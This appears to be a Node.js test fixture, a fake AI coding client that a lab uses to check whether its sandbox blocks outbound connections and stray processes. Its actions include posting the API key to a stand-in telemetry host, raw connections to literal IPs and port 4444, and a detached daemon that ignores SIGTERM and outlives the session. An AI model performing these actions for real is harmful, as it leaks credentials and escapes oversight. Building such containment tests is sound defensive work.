// A client that does what the test names in FAKE_DOES, with real sockets: for the laboratory's own tests.
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { Agent, get } from 'node:https';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const managed = () => {
  try {
    return JSON.parse(readFileSync('/etc/claude-code/managed-settings.json', 'utf8')).env;
  } catch {
    return {}; // Nothing is managed.
  }
};
const set = { ...process.env, ...managed() };
const key = set.FAKE_KEY ?? set.ANTHROPIC_AUTH_TOKEN ?? set.ANTHROPIC_API_KEY;
const gateway = set.FAKE_GATEWAY ?? set.ANTHROPIC_BASE_URL;
const say = (text) => process.stdout.write(`${text}\n`);
const model = `${gateway ?? 'https://api.vendor.test'}/v1/messages`;

const ask = async (url, options = {}) => (await fetch(url, options)).text().catch(() => '');
const post = (url, headers, body) => ask(url, { method: 'POST', headers, body });
const over = (emitter, event) => new Promise((resolve) => emitter.on(event, resolve).on('error', resolve));

const deeds = {
  model: async () => say(await post(model, { 'x-api-key': key }, '{"model":"m","stream":false}')),
  telemetry: () => post('https://telemetry.vendor.test/batch?session=1', {}, `{"key":"${key}"}`),
  basic: () => ask('https://basic.vendor.test/', { headers: { authorization: `Basic ${btoa(`user:${key}`)}` } }),
  name: () =>
    over(
      get('https://past.vendor.test/direct', { agent: new Agent() }).on('response', (r) => r.resume()),
      'close',
    ),
  address: () =>
    over(
      connectTls({ host: '203.0.113.7', port: 443 }, function () {
        this.end('GET /by-address HTTP/1.1\r\nhost: nobody\r\nconnection: close\r\n\r\n');
      }).resume(),
      'close',
    ),
  ssh: () =>
    over(
      connect(22, '203.0.113.22', function () {
        this.end('SSH-2.0-fake\r\n');
      }).resume(),
      'close',
    ),
  unlistened: () => over(connect(4444, '203.0.113.9'), 'close'),
  outside: () => over(connect(Number(process.env.FAKE_PORT), '127.0.0.1'), 'close'),
  datagram: () =>
    new Promise((resolve) => {
      const socket = createSocket('udp4');
      socket.send('x', 443, '203.0.113.8', () =>
        socket.send('x', 9999, '203.0.113.8', () => (socket.close(), resolve())),
      );
    }),
  child: () =>
    over(spawn(process.execPath, [process.argv[1]], { env: { ...process.env, FAKE_DOES: 'telemetry' } }), 'close'),
  daemon: () =>
    void spawn(process.execPath, [process.argv[1], 'daemon'], {
      env: { ...process.env, FAKE_DOES: 'stays' },
      detached: true,
      stdio: 'ignore',
    }).unref(),
  stays: () => {
    process.on('SIGTERM', () => {});
    return new Promise(() => setInterval(() => {}, 1_000));
  },
};

async function talk() {
  say('Do you trust this folder?');
  const { stdin } = process;
  stdin.setRawMode?.(true);
  let line = '';
  for await (const chunk of stdin) {
    line += chunk;
    if (!/[\r\n]$/.test(line)) continue;
    const said = line.trim();
    line = '';
    if (said === 'yes') say('Ready.');
    else if (said === '/bye') process.exit(0);
    else await deeds.model();
  }
}

if (process.argv.includes('--version')) {
  say('fake 1.2.3 (test)');
  process.exit(0);
}
for (const deed of (process.env.FAKE_DOES ?? 'model').split(' ')) await (deed === 'talk' ? talk() : deeds[deed]());
if (process.env.FAKE_DOES?.includes('daemon')) process.exit(0);
